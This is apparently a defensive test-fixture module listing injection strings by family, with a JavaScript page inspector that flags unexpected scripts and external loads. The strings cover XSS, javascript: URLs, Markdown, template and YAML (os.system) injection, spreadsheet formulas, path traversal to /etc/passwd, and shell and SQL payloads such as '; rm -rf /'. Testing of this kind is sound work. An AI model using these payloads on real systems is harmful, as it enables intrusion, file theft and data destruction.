"""Attack strings, by family; ours, after the families that public lists of attacks are made of.

Each that may run calls `piege()`, which the tests define, or asks something of `piege.example`. A
string is written wherever a contributor or a visitor may write; nothing of it may run, load or
become an element of a page.
"""

from __future__ import annotations

PIEGE = "piege"
"""The name of the function that attacks call."""
HOTE = "piege.example"
"""The host that attacks ask for; `.example` never resolves (RFC 2606)."""

_P = f"{PIEGE}()"
_U = f"https://{HOTE}"

FAMILLES: dict[str, list[str]] = {
    "balises": [
        f"<script>{_P}</script>",
        f"<SCRIPT SRC={_U}/x.js></SCRIPT>",
        f"<ScRiPt\n>{_P}</sCrIpT\n>",
        f"<img src=x onerror={_P}>",
        f"<img src={_U}/x.png>",
        f"<svg onload={_P}>",
        f"<svg/onload={_P}//",
        f"<svg><script>{_P}</script></svg>",
        f"<svg><animate onbegin={_P} attributeName=x dur=1s></svg>",
        f'<svg><use href="data:image/svg+xml,<svg onload={_P}>"/></svg>',
        f"<math><mtext><table><mglyph><style><img src=x onerror={_P}>",
        f"<iframe src=javascript:{_P}></iframe>",
        f'<iframe srcdoc="<script>parent.{_P}</script>"></iframe>',
        f"<iframe src={_U}></iframe>",
        f"<object data=javascript:{_P}></object>",
        f"<embed src={_U}/x.swf>",
        f"<style>@import '{_U}/x.css';</style>",
        f"<style>*{{background:url({_U}/x)}}</style>",
        f"<link rel=stylesheet href={_U}/x.css>",
        f"<meta http-equiv=refresh content='0;url={_U}'>",
        f"<base href={_U}/>",
        f"<form action={_U}><button>Envoyer</button></form>",
        f"<input autofocus onfocus={_P}>",
        f"<details open ontoggle={_P}><summary>Ouvrir</summary></details>",
        f"<video><source onerror={_P}></video>",
        f"<audio src=x onerror={_P}>",
        f"<body onload={_P}>",
        f"<marquee onstart={_P}>Défile</marquee>",
        f"<template><script>{_P}</script></template>",
        f"<portal src={_U}></portal>",
        f"<a href=javascript:{_P}>Ici</a>",
        f"<a href={_U} ping={_U}>Ici</a>",
        f"<isindex type=image src=1 onerror={_P}>",
        f"<xyz onclick={_P} tabindex=1 id=x>Perso</xyz>",
        f"<button popovertarget=x onbeforetoggle={_P}>Ici</button>",
    ],
    "gestionnaires": [
        f'" onmouseover="{_P}',
        f"' onfocus='{_P}' autofocus='",
        f'"><img src=x onerror={_P}>',
        f"'><svg onload={_P}>",
        f'x" style="animation-name:x" onanimationstart="{_P}',
        f'" autofocus onfocus={_P} x="',
        f"` onclick=`{_P}",
        f"/onpointerenter={_P}/",
        f'x"\tonclick\t=\t"{_P}',
    ],
    "malformees": [
        f"<<script>{_P}//<</script>",
        f"<scr<script>ipt>{_P}</scr</script>ipt>",
        f"<img src=x onerror={_P}",
        f'<img """><script>{_P}</script>">',
        f"<img src='x' onerror='{_P}' <p>",
        f"</title><script>{_P}</script>",
        f"</textarea><script>{_P}</script>",
        f"</style><script>{_P}</script>",
        f"</noscript><script>{_P}</script>",
        f"<!--><script>{_P}</script>-->",
        f"<!-- --!><img src=x onerror={_P}>",
        f"<![CDATA[><script>{_P}</script>]]>",
        f"<?xml version='1.0'?><script>{_P}</script>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_U}'>]><x>&e;</x>",
        f"<a/href=javascript&colon;{_P}>Ici",
        f"<p title='</p><script>{_P}</script>'>",
        f"<noscript><p title='</noscript><img src=x onerror={_P}>'>",
        "<",
        "< script >",
        "</",
        "<!",
        "<?",
    ],
    "codees": [
        f"&lt;script&gt;{_P}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={_P}&amp;gt;",
        f"&#60;script&#62;{_P}&#60;/script&#62;",
        f"&#x3c;svg onload={_P}&#x3e;",
        f"&#0000060script>{_P}",
        f"%3Cscript%3E{_P}%3C/script%3E",
        f"%253Cscript%253E{_P}%253C/script%253E",
        f"\\u003cscript\\u003e{_P}",
        f"\\x3cimg src=x onerror={_P}\\x3e",
        f"＜script＞{_P}＜/script＞",
        f"+ADw-script+AD4-{_P}+ADw-/script+AD4-",
        "%c0%bcscript%c0%be",
        "%E0%A4%A",
        "%",
        "%00",
        "&NewLine;&Tab;&colon;&lpar;",
    ],
    "adresses": [
        f"javascript:{_P}",
        f"JaVaScRiPt:{_P}",
        f"  javascript:{_P}",
        f"java\tscript:{_P}",
        f"java\nscript:{_P}",
        f"\x01javascript:{_P}",
        f"javascript\x00:{_P}",
        f"java&#115;cript:{_P}",
        f"javascript&colon;{_P}",
        f"&#106;&#97;vascript:{_P}",
        f"javascript://https://exemple.fr/%0a{_P}",
        f"javascript:'https://exemple.fr';{_P}",
        f"data:text/html,<script>{_P}</script>",
        "data:text/html;base64,PHNjcmlwdD5waWVnZSgpPC9zY3JpcHQ+",
        f"data:image/svg+xml,<svg onload={_P}>",
        f"vbscript:{PIEGE}",
        f"view-source:{_U}",
        f"blob:{_U}/1",
        "file:///etc/passwd",
        f"//{HOTE}/x",
        f"\\\\{HOTE}\\x",
        f"https:{HOTE}",
        f"https://exemple.fr@{HOTE}/",
        f"https://exemple.fr\\@{HOTE}",
        f'https://exemple.fr/"onclick={_P}',
        "https://[::1",
        "https://",
        "http://\u202eelpmaxe.egeip/",
        "https://еxеmple.fr/",
    ],
    "markdown": [
        f"[ici](javascript:{_P})",
        f"[ici](<javascript:{_P}>)",
        f"[ici]( javascript:{_P} )",
        f"[ici](JAVASCRIPT&colon;{_P})",
        f"[ici](java\\script:{_P})",
        f'[ici](javascript:{_P} "titre")',
        f'[ici](https://exemple.fr "x" onclick={_P})',
        f'[ici](https://exemple.fr"onmouseover="{_P})',
        f"[ici](https://exemple.fr '><script>{_P}</script>')",
        f"[un [autre] ici](javascript:{_P})",
        f"[![x]({_U}/x.png)](javascript:{_P})",
        f"[ici\nlà](javascript:{_P})",
        f"[ici](data:text/html,<script>{_P}</script>)",
        f"[ici](vbscript:{PIEGE})",
        f"[ici](//{HOTE})",
        "[ici](../../../etc/passwd)",
        "[ici](fiche:../../etc/passwd)",
        f'[ici](fiche:x"onclick="{_P})',
        f"[ici](catalogue:q=<script>{_P}</script>)",
        f"[ici](terme:{_P})",
        f"![x]({_U}/x.png)",
        f'![x" onerror="{_P}](x.png)',
        f"![x](javascript:{_P})",
        f"[ici][la]\n\n[la]: javascript:{_P}",
        f"[s1]: javascript:{_P}",
        f"[s1](javascript:{_P})",
        f"<javascript:{_P}>",
        f"<{_U}>",
        f"<piege@{HOTE}>",
        f"*<b onclick={_P}>fort</b>*",
        f"**[ici](javascript:{_P})**",
        f"`<script>{_P}</script>`",
        f"```html\n<script>{_P}</script>\n```",
        f"~~~\n<script>{_P}</script>\n~~~",
        f"    <script>{_P}</script>",
        f"> <img src=x onerror={_P}>",
        f"- <img src=x onerror={_P}>",
        f"# Titre <img src=x onerror={_P}>",
        f"## Titre [ici](javascript:{_P})",
        f"| a | b |\n| --- | --- |\n| <img src=x onerror={_P}> | [x](javascript:{_P}) |",
        f"\\<script\\>{_P}\\</script\\>",
        f"\x02wzxhzdk:0\x03<script>{_P}</script>",
        f"[^1]\n\n[^1]: <script>{_P}</script>",
        f"*[HTML]: <script>{_P}</script>",
        "[TOC]",
    ],
    "attributs": [
        f"texte {{: onclick={_P} }}",
        f"texte {{: style='background:url({_U})' }}",
        f"[ici](https://exemple.fr){{: onclick={_P} }}",
        f"[ici](https://exemple.fr){{onclick={_P}}}",
        f"# Titre {{#x onclick={_P}}}",
        f"{{:onmouseover={_P}}}",
    ],
    "gabarits": [
        "{{ 7*7 }}",
        "{{ config }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% import os %}{{ os.popen('id').read() }}",
        "{% include '/etc/passwd' %}",
        "{# caché #}",
        "${7*7}",
        f"${{{_P}}}",
        "#{7*7}",
        f"<%= {_P} %>",
        f"<?php {_P}; ?>",
        "[[${7*7}]]",
        "{{{ texte }}}",
        "%(texte)s %s %n",
        "{0.__class__}",
    ],
    "inclusions": [
        '--8<-- "README.md"',
        "--8<-- '/etc/passwd'",
        f"-8<- {_U}",
        ";--8<-- x",
        "{! /etc/passwd !}",
        "!include /etc/passwd",
        f'<!--#exec cmd="id" --><!--#include virtual="{_U}" -->',
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd\x00.md",
        "%2e%2e%2fetc%2fpasswd",
        "....//....//etc/passwd",
    ],
    "yaml": [
        "!ENV HOME",
        "!!python/object/apply:os.system ['id']",
        "!!python/name:os.system",
        "!<tag:yaml.org,2002:python/object/new:os.system> [id]",
        "!!binary PHNjcmlwdD4=",
        "&ancre valeur",
        "*ancre",
        "{<<: {a: 1}}",
        "<<: *ancre",
        "[&a [x], *a, *a, *a]",
        "? clé\n: valeur",
        "texte\n---\nautre: document",
        "%YAML 1.1",
        "|\n  deux\n  lignes",
        "' # commentaire",
        '"\nid: 99999\nfaux: "',
        "@reserve",
        "`reserve",
        "NaN",
        "0x1F",
        "12:30:45",
        "1_000",
        "no",
        "~",
    ],
    "tableurs": [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1;1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        f'=HYPERLINK("{_U}";"Ici")',
        "=cmd|'/C calc'!A0",
        f'=WEBSERVICE("{_U}")',
        "=10+20+cmd|' /C calc'!A0",
        "＝1+1",
        '"=1+1',
        "';=1+1;",
        "%0A=1+1",
    ],
    "invisibles": [
        "abc\u202edef",
        "abc\u2066def\u2069",
        "abc\u200bdef",
        "abc\u200d\u200cdef",
        "abc\u00addef",
        "abc\ufeffdef",
        "abc\u0000def",
        "abc\u0007\u001b[31mdef",
        "abc\u0085def",
        "abc\u2028def",
        "abc\u3164def",
        "abc\ufe0fdef",
        "abc\U000e0041def",
        "abc\uffffdef",
        "abc\ue000def",
        "z\u0300\u0301\u0302\u0303\u0304\u0305algo",
        "ﬀ ﬁ ① ℡ ﷽",
        "pаtiеnt рartenairе",
    ],
    "echappees": [
        f"</script><script>{_P}</script>",
        f"</SCRIPT ><img src=x onerror={_P}>",
        f"<!--<script>{_P}</script>",
        f'"}}</script><script>{_P}</script>',
        f'", "url": "javascript:{_P}"',
        f"'];{_P};//",
        f'";{_P};//',
        f'\\";{_P};//',
        f"]]><script>{_P}</script>",
        f"]]></text><script>{_P}</script><![CDATA[",
        f"</svg><script>{_P}</script>",
        f'"/><script xmlns="http://www.w3.org/1999/xhtml">{_P}</script>',
        "\u2028\u2029",
        "__proto__",
        "constructor",
        "constructor.prototype.x",
        "__proto__[x]=1",
        "toString",
        "hasOwnProperty",
        "null",
        "undefined",
    ],
    "commandes": [
        "::error file=x::Faux",
        "Faux\r\n::set-output name=x::y",
        "Faux\n::add-mask::x",
        f"Set-Cookie: x=1\r\nLocation: {_U}",
        "$(id)",
        "`id`",
        "; rm -rf /",
        "| cat /etc/passwd",
        "' OR '1'='1",
        "1; DROP TABLE fiches;--",
        "x' UNION SELECT 1,2--",
        "*)(uid=*))(|(uid=*",
        "\x1b]0;titre\x07",
        "--format=json",
    ],
    "polyglottes": [
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_P} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        f"<sVg/<sVg/oNloAd={_P}//>",
        f"'\"()&%<zzz><ScRiPt >{_P}</ScRiPt>",
        f"\"'><img src=x onerror={_P}>{{{{7*7}}}}${{7*7}}=1+1",
        f"--><svg onload={_P}><!--]]>*/;{_P};/*",
    ],
    "longues": [
        "a" * 20_000,
        "mot " * 3_000,
        " ".join(f"zzqxw{rang:04}" for rang in range(1_000)),
        "é" * 5_000,
        "[" * 5_000,
        "(" * 5_000,
        "<" * 5_000,
        "*a " * 2_000,
        "[a](" * 1_200,
        '"' * 5_000,
        "- " * 2_000,
        "&" * 5_000,
    ],
}

TOUTES = [chaine for famille in FAMILLES.values() for chaine in famille]
COURTES = [chaine for chaine in TOUTES if len(chaine) < 1_000]

INSPECTER = """
([html, adresse, debut]) => {
  const page = html === null ? document : new DOMParser().parseFromString(html, "text/html");
  const ici = new URL(adresse).origin;
  const fautes = [];
  const noter = (element, raison) => fautes.push(raison + " : " + element.outerHTML.slice(0, 200));
  const charge = ["src", "data", "poster", "background", "srcset", "manifest", "action", "formaction", "ping"];
  const interdites = "iframe,object,embed,base,math,video,audio,marquee,portal,template,isindex,xyz,zzz,frame,applet";
  for (const element of page.querySelectorAll(interdites)) {
    if (element.id !== "modele-source") noter(element, "élément");
  }
  const dessins = "style,svg *:not(path,rect,text,a.case,g.case)";
  for (const element of page.querySelectorAll(dessins)) noter(element, "élément");
  for (const element of page.querySelectorAll("script")) {
    const donnees = element.type === "application/ld+json";
    const source = element.getAttribute("src");
    const connu = source ? new URL(source, adresse).pathname.startsWith("/assets/js/") : element.textContent === debut;
    if (donnees) JSON.parse(element.textContent);
    else if (!connu) noter(element, "script");
  }
  for (const element of page.querySelectorAll("meta[http-equiv]")) {
    if (!/^(content-security-policy|refresh)$/i.test(element.httpEquiv)) noter(element, "meta");
    if (/refresh/i.test(element.httpEquiv) && !/^0; url=\\.\\.\\//.test(element.content)) noter(element, "meta");
  }
  for (const element of page.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const styleEcrit = name === "style" && html !== null;
      if (name.startsWith("on") || name === "srcdoc" || styleEcrit) noter(element, "attribut " + name);
      if (!["href", "xlink:href", ...charge].includes(name)) continue;
      let cible;
      try { cible = new URL(value, adresse); } catch { continue; }
      if (!["http:", "https:", "mailto:"].includes(cible.protocol)) noter(element, "adresse");
      const seulUnLien = element.matches("a,link[rel=canonical],link[rel=license],link[type$=oembed]");
      if ((charge.includes(name) || !seulUnLien) && cible.origin !== ici) noter(element, "chargement");
    }
  }
  return fautes;
}
"""
"""What a page holds that our templates never write: given its HTML (null: the page that is open), its
address and the head script, returns a sentence for each finding."""
